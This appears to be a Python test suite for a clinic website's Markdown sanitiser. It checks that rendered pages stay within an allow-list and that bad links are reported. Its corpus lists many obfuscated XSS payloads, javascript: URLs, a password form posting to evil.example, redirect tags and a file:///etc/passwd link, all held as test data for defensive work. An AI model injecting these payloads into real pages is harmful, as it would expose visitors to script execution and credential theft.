"""What somebody might write to run a script, spoil a page or stop the server."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clinic_site.publishing.markdown.sanitising import (
    ATTRIBUTE_VALUES,
    ATTRIBUTES,
    CLASSES,
    TAGS,
    sanitise,
)
from clinic_site.publishing.rendering import render

from .rendered import DRAWING, FACTS

URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "java&Tab;script:alert(1)",
    "java\tscript:alert(1)",
    "java\x01script:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#x6A;avascript:alert(1)",
    "java\\script:alert(1)",
    "<javascript:alert(1)>",
    "<java script:alert(1)>",
    " javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "//evil.example",
    "https:evil.example",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/><script>alert(1)</script>",
    'faq:is-it-painful#"onclick="alert(1)',
    '#h-x" onclick="alert(1)',
]
LINKS = [
    "[A page]({})",
    '[A page](<{}> "title")',
    "[**A [page]({})**](pages:privacy)",
    "[![A picture](lungs.svg)]({})",
    "![A picture]({})",
    '![A picture]({} "Caption")',
    "| [A page]({}) |\n|---|\n| [A page]({}) |",
    "/// details | [A page]({})\n\n[A page]({})\n\n///",
    "## [A page]({})",
    "Term\n:   [A page]({})",
]
NO_LINKS = ["[A page][1]\n\n[1]: {}", "![A picture][1]\n\n[1]: {}", "<{}>"]
SNIPPETS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>a</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>a</a>",
    "<p style='background:url(javascript:alert(1))'>a</p>",
    "<div style=position:fixed;inset:0>a</div>",
    "<details open ontoggle=alert(1)>a</details>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "</section></div></body><script>alert(1)</script>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<span data-drawing='0'></span>",
    "<span data-clinic='x' id='csrf'></span>",
    "<button popovertarget=x formaction=javascript:alert(1)>a</button>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "# Title {onclick=alert(1)}",
    "## Title {: onclick=alert(1) #location .x style=color:red}",
    "Text\n{: onclick=alert(1) }",
    "*a*{: onclick=alert(1) }",
    "## <img src=x onerror=alert(1)>",
    "/// details | <script>alert(1)</script>\n\n<script>\n\n///",
    "/// note | A\n    attrs: {onclick: 'alert(1)', id: location, class: care-card}\n\nb\n\n///",
    "/// note | A\n    open: true\n    attrs:\n        style: 'color:red'\n\nb\n\n///",
    "/// html | script\n\nalert(1)\n\n///",
    "/// do\n- <script>alert(1)</script>\n///",
    '![A" onload="alert(1)](lungs.svg "Caption <script>alert(1)</script>")',
    '![A picture](lungs.svg "C" onload=alert(1))',
    "![A picture](room.webp){: onload=alert(1) }",
    '[@Boyce2020" onclick="alert(1)]',
    "[@<script>alert(1)</script>]",
    '{{clinic_name" onclick="alert(1)}}',
    "{{<script>}}",
    "| a |\n|:-:|\n| <td onclick=alert(1)> |",
    "| a | b |\n|---|:style=x|\n| 1 | 2 |",
    '[A page](https://a.example "title" onclick="alert(1)")',
    '[a]: https://a.example "<script>alert(1)</script>"\n\n[a]',
    "\x02klzzwxh:0000\x03 *a*",
    "\x02wzxhzdk:0\x03 <b>",
    "\ue0001\ue001<\ue0002\ue001script>alert(1)",
    "<\ue000script>alert(1)</\ue001script>",
    "&lt;script&gt;\u2028alert(1)&lt;/script&gt;",
    "<\u017fcript>alert(1)</\u017fcript>",
]
CORPUS = [*SNIPPETS, *(place.replace("{}", url) for place in LINKS + NO_LINKS for url in URLS)]

URL_ATTRIBUTES = {"href", "src"}
SAFE_URL = re.compile(r"(?:https?://|mailto:|tel:|/(?!/)|#(?:h|ref)-)")
OWN_ID = re.compile(r"(?:h|cite|term)-[^\s\"'<>]*")
PIECES = [
    "a", " ", "\n", "\n\n", "    ", "- ", "1. ", "> ", "## ", "#", "*", "**", "_", "`", "```\n",
    "|", "|---|", "[", "](", ")", "![", "[@", "Boyce2020", "; @", "]", "{{", "clinic_phone", "}}",
    "///", "/// note | ", "/// do\n", "/// details | ", "<", ">", "<script>", "</p>", "<!--", "&",
    "&lt;", "&#106;", "javascript:", "https://a.b", "faq:is-it-painful", "lungs.svg", "room.webp",
    '"', "'", "\\", "onclick=", "trigger point", "\x00", "\x02", "\x03", "\ue000", "\ue001",
    "\ud800", "é", ": ", ":   ", "\t", "\r", "---\n", "{: #x }",
]  # fmt: skip
MARKUP = st.lists(st.sampled_from(PIECES), max_size=60).map("".join)
ANYTHING = st.one_of(MARKUP, st.text(max_size=200))


class Elements(HTMLParser):
    """Collects what a browser would build: tags with attributes, and text."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found += [(tag, name, value) for name, value in attrs] or [(tag, "", "")]

    def handle_comment(self, data):
        self.found.append(("!--", "", data))

    handle_decl = handle_pi = unknown_decl = handle_comment


def forbidden(html):
    """The attributes and tags that may not be there."""
    return [found for found in Elements(html).found if not is_allowed(*found)]


def is_allowed(tag, name, value):
    if tag not in TAGS or (name in URL_ATTRIBUTES and not SAFE_URL.match(value)):
        return False
    if name == "id":
        return bool(OWN_ID.fullmatch(value))
    if name == "class":
        return set(value.split()) <= CLASSES.get(tag, set())
    if name in ATTRIBUTE_VALUES.get(tag, {}):
        return value in ATTRIBUTE_VALUES[tag][name]
    return name == "" or name in ATTRIBUTES.get(tag, set())


def without_drawings(html):
    """The HTML without our own drawing, which is trusted and stands outside the allow-list."""
    inside = re.escape(DRAWING[DRAWING.index("<title") :])
    return re.sub(rf"<svg class=\"drawing\"[^<>]*>{inside}", "", html)


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_dangerous_is_left(text):
    rendered = render(text, FACTS)
    assert forbidden(without_drawings(rendered.html)) == []
    assert re.findall(r"<[a-zA-Z/!?]", rendered.plain_text) == []


@pytest.mark.parametrize("place", LINKS)
@pytest.mark.parametrize("url", URLS)
def test_bad_addresses_are_reported(place, url):
    assert render(place.replace("{}", url), FACTS).problems != []


@pytest.mark.parametrize("text", [snippet for snippet in SNIPPETS if snippet.startswith("<")])
def test_raw_html_is_reported(text):
    assert render(f"Text\n\n{text}", FACTS).problems[0].line == 3


@pytest.mark.parametrize("html", SNIPPETS)
def test_the_last_barrier_holds_alone(html):
    assert forbidden(sanitise(html)) == []


@given(text=ANYTHING)
def test_every_text_is_rendered_within_the_allow_list(text):
    assert forbidden(without_drawings(render(text, FACTS).html)) == []


@given(text=ANYTHING)
def test_plain_text_has_no_markup(text):
    assert re.findall(r"<[a-zA-Z/!?]|[\ue000\ue001\x00]", render(text, FACTS).plain_text) == []


@given(text=ANYTHING)
def test_problems_name_a_line_of_the_text(text):
    lines = len(re.split("\r\n|\r|\n", text))
    found = [problem.line for problem in render(text, FACTS).problems]
    assert found == sorted(line for line in found if 1 <= line <= lines)


@given(html=st.text(st.sampled_from("<>/=\"' abiph:&;#-\n"), max_size=80))
def test_sanitised_html_stays_within_the_allow_list(html):
    assert forbidden(sanitise(html)) == []
